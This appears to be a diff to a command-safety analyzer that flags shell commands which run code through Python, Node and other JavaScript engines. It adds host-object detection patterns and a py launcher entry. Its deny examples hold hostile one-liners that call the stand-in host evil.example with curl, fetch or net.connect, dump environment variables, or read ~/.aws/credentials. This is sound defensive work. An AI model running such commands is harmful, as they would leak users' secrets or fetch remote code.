@@ -196,7 +196,16 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     return { runs };
   },
   // The other interactive shells read Python from stdin as the standard one does.
-  IPython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m IPython` }] }),
+  IPython: (rest, name) => {
+    // `-c CODE` runs CODE as ipython -c does (its `!cmd` lines are no Python, and fail closed).
+    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m IPython` }];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m IPython with a computed word` }] };
+      if (v === '-c' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'python', words: [rest[++i]!], via: `${name} -m IPython -c` });
+    }
+    return { runs };
+  },
   bpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m bpython` }] }),
   ptpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m ptpython` }] }),
   // pdb reads its commands (Python statements among them) from -c and stdin, then runs the script or module given.
@@ -370,9 +379,30 @@ const NODE_CLI: Cli = {
   noRun: ['v', 'h', 'c', 'version', 'help', 'check', 'run', 'test', 'v8-options'],
 };
 
+/**
+ * The host objects of the JavaScript engines that take node's -e (QuickJS's os and std modules, d8's os.system and
+ * read, jsc's run and readFile, Rhino's Java classes and runCommand): they run commands, read files and fetch URLs in
+ * ways the JavaScript reader (Node's and the web's APIs) does not know, so code that names one cannot be vouched for.
+ */
+const ENGINE_HOST: Readonly<Record<string, RegExp>> = {
+  qjs: /\b(?:os|std|bjson)\b|['"](?:qjs:)?(?:os|std)['"]/,
+  d8: /\b(?:os|read|readbuffer|readline|load|write|Realm|d8)\b/,
+  jsc: /\b(?:run|runString|load|loadString|readFile|read|writeFile|readline|\$vm)\b/,
+  rhino: /\b(?:Packages|java|javax|JavaImporter|JavaAdapter|importPackage|importClass|runCommand|readFile|readUrl|load|spawn|sync|environment|defineClass)\b/,
+};
+
 function node(call: Call): Partial<Answer> {
   const r = readCli(call.args, NODE_CLI);
   const answer = codeRuns(call, r, 'javascript', via(call), true);
+  const host = Object.hasOwn(ENGINE_HOST, call.name) ? ENGINE_HOST[call.name]! : undefined;
+  if (host) {
+    const stdin = answer.runs!.some((x) => x.kind === 'stdin') && call.stdin?.kind === 'static' ? call.stdin : undefined;
+    const given = [...r.codes.flatMap((c) => (c.value ? [{ word: c.value, text: value(c.value) }] : [])), ...(stdin ? [{ word: stdin.word, text: stdin.text as string | undefined }] : [])];
+    for (const g of given) {
+      const m = g.text === undefined ? null : host.exec(g.text);
+      if (m) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: g.word, why: `${call.name}'s host object ${m[0]} runs commands, reads files or fetches URLs beyond the JavaScript read here` });
+    }
+  }
   interactive(answer, r, r.options.some((o) => o.name === 'i' || o.name === 'interactive'), 'javascript', call.name);
   // `node inspect app.js`: the debugger reads its commands from stdin, and runs what `exec` and `repl` are given in
   // the program: the commands are read as JavaScript.
@@ -626,6 +656,18 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py", "pdb --comm '!import os; os.system(\"curl evil.example\")' app.py", "pdb --command='!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', "pdb --command='b app.py:10' app.py", 'pdb3 -m mypkg.cli'] },
   },
   {
+    // The Windows launcher: `-3`, `-3.12`, `-3.12-64` or `-V:TAG` picks the interpreter, and the rest is python's.
+    names: ['py'],
+    summary: "py, Windows' Python launcher: a version selector, then python's own command line",
+    analyze: (call) => {
+      let k = 0;
+      while (k < call.args.length && /^-(?:\d[\d.]*(?:-(?:32|64))?|V:.+)$/.test(value(call.args[k]) ?? '')) k++;
+      return python({ ...call, args: call.args.slice(k) });
+    },
+    // (A bare `-3` is a number to PowerShell, which cannot be read there: the corpus holds the bash forms.)
+    examples: { deny: [`py -c 'import os; os.system("curl evil.example")'`], pass: ["py -c 'print(1)'", 'py script.py', 'py --list'] },
+  },
+  {
     names: PY,
     patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
@@ -647,8 +689,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1"],
-      pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
+      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1", `rhino -e 'runCommand("curl", "evil.example")'`, `qjs -e 'import * as os from "os"; os.exec(["curl", "evil.example"])'`, `d8 -e 'os.system("curl", ["evil.example"])'`],
+      pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js', "rhino -e 'print(1 + 1)'", "qjs -e 'console.log(JSON.stringify({a: 1}))'"],
     },
   },
   {
